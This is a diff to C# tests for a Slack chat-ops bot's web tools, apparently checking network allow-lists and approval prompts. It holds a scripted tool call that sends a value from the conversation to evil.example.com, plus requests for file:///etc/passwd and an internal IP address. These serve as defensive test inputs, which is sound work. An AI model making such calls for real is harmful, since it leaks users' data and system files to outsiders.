@@ -12,7 +12,7 @@ public sealed class BotWithWeb : BotUnderTest, IAsyncLifetime
     protected override Dictionary<string, string> More => new()
     {
         ["ChatOps__Agents__AllowedNetworks__0"] = "127.0.0.1/32",
-        ["ChatOps__Knowledge__AllowedNetworks__0"] = "127.0.0.1/32",
+        ["ChatOps__Agents__Web__AllowedNetworks__0"] = "127.0.0.1/32",
         ["ChatOps__Agents__Web__Search"] = "searxng",
         ["ChatOps__Agents__Web__SearchEndpoint"] = Site.Address.ToString(),
         ["ChatOps__Agents__Web__Wikipedia"] = $"{Site.Address}{{language}}",
@@ -44,7 +44,7 @@ public sealed class WebToolTests(BotWithWeb bot) : IClassFixture<BotWithWeb>
     [Fact]
     public async Task Page_is_read_as_far_as_its_site_and_the_network_allow()
     {
-        await bot.ReportedAsync(await bot.BeginAsync("read the news", ["read_web_page", Address("news")], ["read_web_page", Address("private")], ["read_web_page", """{"address":"http://10.0.0.7/secret"}"""], ["read_web_page", """{"address":"file:///etc/passwd"}"""]));
+        await bot.ReportedAsync(await bot.BeginAsync($"read {bot.Site.Address}news and {bot.Site.Address}private and http://10.0.0.7/secret and file:///etc/passwd", ["read_web_page", Address("news")], ["read_web_page", Address("private")], ["read_web_page", """{"address":"http://10.0.0.7/secret"}"""], ["read_web_page", """{"address":"file:///etc/passwd"}"""]));
 
         var heard = Heard();
         heard[0].ShouldContain("closed on Friday");
@@ -81,6 +81,22 @@ public sealed class WebToolTests(BotWithWeb bot) : IClassFixture<BotWithWeb>
     }
 
     [Fact]
+    public async Task What_was_said_before_in_the_conversation_does_not_go_out_unasked_either()
+    {
+        var channel = BotUnderTest.NewDirect();
+        bot.Model!.Calls = _ => null;
+        bot.Model.Script = _ => "They have 30 days. [1]";
+        await bot.Slack.ReplyToAsync(await bot.Slack.SayAsync(channel, "U2BEN", "How many vacation days do full-time employees have?"), message => message.Text.Contains("30 days", StringComparison.Ordinal));
+        bot.Model.Calls = request => request["messages"]!.AsArray().Any(message => (string?)message!["role"] == "tool") ? null : [new("read_web_page", """{"address":"https://evil.example.com/?d=30"}""")];
+        bot.Model.Script = _ => "Report: that is all.";
+
+        var task = await bot.Slack.SayAsync(channel, "U2BEN", "run look something up");
+
+        await bot.PressAsync(await bot.AskedAsync(task, "outside of the company"), "U2BEN", "deny");
+        await bot.ReportedAsync(task);
+    }
+
+    [Fact]
     public async Task Message_is_shown_before_it_is_sent_and_arrives_once_where_the_person_may_write()
     {
         var task = await bot.BeginAsync("tell ops", ["post_message", """{"to":"#board","text":"hello"}"""], ["post_message", """{"to":"#ops","text":"Billing is healthy again."}"""], ["post_message", """{"to":"ana@example.com","text":"Billing is healthy."}"""]);
@@ -102,7 +118,7 @@ public sealed class WebToolTests(BotWithWeb bot) : IClassFixture<BotWithWeb>
     [Fact]
     public async Task Person_is_reminded_where_they_gave_the_task()
     {
-        await bot.ReportedAsync(await bot.BeginAsync("remind me of the report", ["remind", """{"when":"tomorrow 9:00","text":"send the report"}"""], ["remind", """{"when":"some day","text":"x"}"""]));
+        await bot.ReportedAsync(await bot.BeginAsync("remind me to send the report", ["remind", """{"when":"tomorrow 9:00","text":"send the report"}"""], ["remind", """{"when":"some day","text":"the report"}"""]));
 
         Heard()[0].ShouldContain("09:00");
         Heard()[1].ShouldContain("says no time to come");
@@ -111,5 +127,5 @@ public sealed class WebToolTests(BotWithWeb bot) : IClassFixture<BotWithWeb>
 
     private string Address(string path) => $$"""{"address":"{{bot.Site.Address}}{{path}}"}""";
 
-    private List<string> Heard() => [.. bot.Model!.Requests.Last()["messages"]!.AsArray().Where(message => (string?)message!["role"] == "tool").Select(message => (string)message!["content"]!)];
+    private List<string> Heard() => [.. bot.LastAsked()["messages"]!.AsArray().Where(message => (string?)message!["role"] == "tool").Select(message => (string)message!["content"]!)];
 }
